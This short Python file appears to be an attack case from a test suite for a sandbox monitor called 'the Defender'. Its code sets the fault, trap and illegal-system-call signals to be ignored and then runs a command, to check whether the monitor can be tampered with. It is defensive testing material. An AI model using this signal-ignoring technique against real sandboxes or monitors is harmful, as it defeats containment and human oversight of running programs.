"""A signal handler in the place of the Defender's
Sets a handler of one's own for every signal that a fault or a trap raises, and for illegal system calls.
policy: no-tampering
audit: unexpectedProcess
alone: yes
"""
import ctypes


def attack(at):
    # It works if a program runs then.
    for signal in (4, 5, 7, 11, 31):
        at.libc.signal(signal, ctypes.c_void_p(1))
    return at.ran(at.with_output(lambda: at.libc.system(at.COMMAND.encode())))
